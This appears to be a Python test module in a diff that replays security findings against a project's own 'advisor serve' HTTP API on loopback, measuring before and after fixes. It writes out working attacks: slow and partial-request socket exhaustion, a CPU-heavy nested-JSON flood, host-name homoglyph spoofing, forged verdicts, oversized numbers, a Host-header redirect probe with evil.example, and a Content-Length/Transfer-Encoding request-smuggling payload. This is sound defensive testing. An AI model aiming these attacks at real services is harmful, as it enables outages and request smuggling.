@@ -1,0 +1,263 @@
+"""The second round of findings against `advisor serve`, replayed one line each: slow and
+partial requests from many clients, anonymous bodies, invented host spellings, trusted verdicts
+and checks, unbounded numbers, and the small HTTP findings. Used by attack_service.py; runs
+against whichever code `tests.api_server` serves (this checkout's, or another's on PYTHONPATH:
+that is how the "before" figures were taken).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import datetime as dt
+import json
+import socket
+import statistics
+import threading
+import time
+from typing import Any
+from urllib.parse import urlsplit
+
+import httpx
+import psutil
+
+from tests.test_estimate_api import probe_report
+
+JSON = {"content-type": "application/json"}
+SOCKETS = 1100
+# source addresses on loopback: as many clients, each under a per-client cap of 64
+CLIENTS = 20
+
+
+def _open(url: str, source: str) -> socket.socket:
+    u = urlsplit(url)
+    return socket.create_connection((u.hostname, u.port), timeout=10, source_address=(source, 0))
+
+
+def _health(url: str, tries: int = 10) -> list[int]:
+    codes = []
+    for _ in range(tries):
+        try:
+            codes.append(httpx.get(f"{url}/healthz", timeout=3).status_code)
+        except httpx.HTTPError:
+            codes.append(0)  # no answer at all
+    return codes
+
+
+def _first_health_200(url: str, limit_s: float) -> float | None:
+    start = time.monotonic()
+    while time.monotonic() - start < limit_s:
+        if _health(url, 1) == [200]:
+            return time.monotonic() - start
+        time.sleep(0.25)
+    return None
+
+
+def slow_clients(url: str, name: str, first: bytes, then: bytes = b"") -> None:
+    """SOCKETS sockets from CLIENTS addresses each send `first` (after `then`'s answer when a
+    keep-alive request comes first) and nothing more; then /healthz is asked."""
+    socks = []
+    for i in range(SOCKETS):
+        try:
+            s = _open(url, f"127.0.1.{1 + i % CLIENTS}")
+            if then:
+                s.sendall(then)
+                s.settimeout(2)
+                with contextlib.suppress(OSError):
+                    s.recv(65536)
+            s.sendall(first)
+            socks.append(s)
+            if i % 50 == 49:  # the server reads each byte before the cap is reached
+                time.sleep(0.1)
+        except OSError:
+            pass
+    time.sleep(0.5)
+    codes = _health(url)
+    recovered = _first_health_200(url, 40)
+    for s in socks:
+        s.close()
+    when = "never within 40 s" if recovered is None else f"after {recovered:.1f} s"
+    print(
+        f"{name}: {len(socks)} of {SOCKETS} sockets open; 10 x /healthz {sorted(set(codes))}; 200 again {when}"
+    )
+
+
+def anonymous_bodies(url: str, pid: int) -> None:
+    """A 1 MiB body of 74k nested objects without a token: its answer, the server's CPU time
+    for it (psutil, the server process), and /healthz while four such clients post."""
+    body = "[" + ",".join('{"a":{"b":1}}' for _ in range(74_000)) + "]"  # just under 1 MiB
+    server = psutil.Process(pid)
+    cpu = sum(server.cpu_times()[:2])
+    codes = set()
+    for _ in range(5):
+        r = httpx.post(f"{url}/v1/probe-reports", content=body, headers=JSON, timeout=60)
+        codes.add(r.status_code)
+    spent = (sum(server.cpu_times()[:2]) - cpu) / 5
+    print(
+        f"anonymous {len(body) / 2**20:.2f} MiB body x5: {sorted(codes)}, server CPU "
+        f"{spent * 1000:.0f} ms each"
+    )
+    alone = []
+    for _ in range(20):
+        t0 = time.perf_counter()
+        httpx.get(f"{url}/healthz", timeout=30)
+        alone.append(time.perf_counter() - t0)
+    print(f"/healthz p50 alone: {statistics.median(alone) * 1000:.0f} ms")
+    stop = threading.Event()
+
+    def flood() -> None:
+        while not stop.is_set():
+            httpx.post(f"{url}/v1/probe-reports", content=body, headers=JSON, timeout=60)
+
+    threads = [threading.Thread(target=flood) for _ in range(4)]
+    for t in threads:
+        t.start()
+    times = []
+    for _ in range(20):
+        t0 = time.perf_counter()
+        httpx.get(f"{url}/healthz", timeout=30)
+        times.append(time.perf_counter() - t0)
+    stop.set()
+    for t in threads:
+        t.join()
+    print(f"/healthz p50 with 4 anonymous posters: {statistics.median(times) * 1000:.0f} ms")
+
+
+def _post(url: str, token: str, body: dict[str, Any], path: str = "/v1/probe-reports") -> Any:
+    auth = {"Authorization": f"Bearer {token}"}
+    return httpx.post(f"{url}{path}", json=body, headers=auth, timeout=30)
+
+
+def _recent(minutes: int) -> str:
+    return (dt.datetime.now(dt.UTC) - dt.timedelta(minutes=minutes)).isoformat()
+
+
+def host_spellings(url: str, token: str) -> None:
+    spellings = ["h1", "H1", "\u04bb1", "h1\u200b", "h1.", " h1"]
+    codes = []
+    for i, host in enumerate(spellings):
+        body = probe_report(host, 0.95)
+        body["accelerator"], body["created_at"] = "h100-sxm", _recent(i + 1)
+        codes.append(_post(url, token, body).status_code)
+    summary = httpx.get(f"{url}/v1/fleet/summary", params={"accelerator": "h100-sxm"})
+    hosts = summary.json()[0]["hosts"] if summary.json() else 0
+    print(f"six spellings of h1 posted: {codes}; hosts in the fleet summary: {hosts}")
+
+
+def trusted_verdicts(url: str, token: str) -> None:
+    body = probe_report("verdict-host", 0.95)
+    body["created_at"] = _recent(1)
+    body["gpu_verdicts"] = [{"gpu": 0, "verdict": "fail"}]
+    body["failed_ranks"] = [{"rank": 1, "detail": "killed"}]
+    body["cluster"] = {"nodes": 1, "world_size": 2, "hosts": [], "verdict": "fail"}
+    r = _post(url, token, body)
+    print(f"verdict pass over failing GPU/cluster verdicts and a lost rank: stored {_stored(r)}")
+    body = probe_report("one-percent-host", 0.01)
+    body["created_at"] = _recent(1)
+    r = _post(url, token, body)
+    print(f"check marked pass at 1% of its expectation: stored {_stored(r)}")
+
+
+def _stored(r: Any) -> str:
+    if r.status_code >= 300:
+        return f"{r.status_code}"
+    return f"{r.status_code} verdict={r.json().get('verdict')}"
+
+
+def wrong_hardware(url: str, token: str) -> None:
+    body = probe_report("h200-vm", 0.9)
+    body.update(created_at=_recent(1), accelerator="h200-sxm", expected_accelerator="mi300x")
+    body["inventory"]["gpu"] = {"name": "NVIDIA H200"}
+    body["checks"][0].update(measured=785.0, expected=915.18)
+    r = _post(url, token, body)
+    summary = httpx.get(f"{url}/v1/fleet/summary").json()
+    filed = sorted(s["accelerator"] or "-" for s in summary)
+    print(f"H200 run posted with --expect mi300x: {r.status_code}; summary accelerators {filed}")
+
+
+def numbers(url: str, token: str) -> None:
+    sent = probe_report("digits-host", 0.95)
+    sent["created_at"], sent["device"] = _recent(1), "DEVICE"
+    text = json.dumps(sent).replace('"DEVICE"', "9" * 309)
+    auth = {"Authorization": f"Bearer {token}", **JSON}
+    r = httpx.post(f"{url}/v1/probe-reports", content=text, headers=auth, timeout=30)
+    print(f"a 309-digit integer in device: {r.status_code}")
+    job = {
+        "command": ["python", "train.py"],
+        "exit_code": 0,
+        "wall_s": 60.0,
+        "sampled_s": 60.0,
+        "interval_s": 1.0,
+        "verdict": "findings",
+        "findings": [
+            {
+                "code": "under_used",
+                "summary": "s",
+                "evidence": [],
+                "fix": "f",
+                "idle_usd_per_h": -5_000_000.0,
+                "saving_usd_per_h": 1e308,
+            }
+        ],
+        "gpu_hours_lost": 1e308,
+    }
+    report = {
+        "created_at": _recent(1),
+        "host": "money-host",
+        "duration_s": 60.0,
+        "interval_s": 1.0,
+        "gpus": [],
+        "job": job,
+    }
+    r = _post(url, token, report, "/v1/utilisation-reports")
+    print(f"job report with $-5,000,000/h and 1e308 GPU-hours: {r.status_code}")
+
+
+def http_findings(url: str) -> None:
+    r = httpx.get(
+        f"{url}/v1/accelerators/", headers={"Host": "evil.example"}, follow_redirects=False
+    )
+    print(f"trailing slash with Host: evil.example: {r.status_code} {r.headers.get('location')}")
+    u = urlsplit(url)
+    with socket.create_connection((u.hostname, u.port), timeout=5) as s:
+        s.sendall(
+            b"POST /v1/recommendations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+            b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+            b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
+        )
+        s.settimeout(3)
+        out = b""
+        try:
+            while chunk := s.recv(65536):
+                out += chunk
+        except OSError:
+            pass
+    answers = [line.split(b" ")[1].decode() for line in out.split(b"\r\n") if line[:5] == b"HTTP/"]
+    print(f"Content-Length with Transfer-Encoding, then a second request: answered {answers}")
+    httpx.get(f"{url}/openapi.json")
+    labels = [
+        line.split('route="')[1].split('"')[0]
+        for line in httpx.get(f"{url}/metrics").text.splitlines()
+        if line.startswith("advisor_http_requests_total{") and 'method="GET"' in line
+    ]
+    print(f"/metrics route labels of GET requests: {sorted(set(labels))}")
+
+
+def replay(url: str, token: str, pid: int) -> None:
+    for name, first, then in (
+        ("one byte each", b"G", b""),
+        (
+            "a partial body each",
+            b"POST /v1/recommendations HTTP/1.1\r\nHost: x\r\n"
+            b"Content-Length: 100\r\nContent-Type: application/json\r\n\r\n{",
+            b"",
+        ),
+        ("one byte after a keep-alive answer", b"G", b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"),
+    ):
+        slow_clients(url, name, first, then)
+        time.sleep(2)
+    anonymous_bodies(url, pid)
+    host_spellings(url, token)
+    trusted_verdicts(url, token)
+    wrong_hardware(url, token)
+    numbers(url, token)
+    http_findings(url)
